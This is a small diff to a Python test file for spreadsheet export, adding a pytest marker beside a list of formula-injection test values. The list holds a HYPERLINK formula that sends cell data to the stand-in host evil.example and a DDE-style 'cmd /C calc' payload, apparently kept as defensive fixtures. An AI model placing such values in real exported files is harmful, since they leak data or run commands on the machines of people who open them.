@@ -16,6 +16,8 @@ from ivr.store.export_formats import XLSX, UnwritableValue, write_table
 from ivr.store.readings_csv import HEADER
 from tests.conftest import store_readings
 
+pytestmark = pytest.mark.both_databases  # SQL behaviour: see tests/conftest.py
+
 SERIALS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+1+cmd|' /C calc'!A0",
            "-2-3"]  # fmt: skip
 
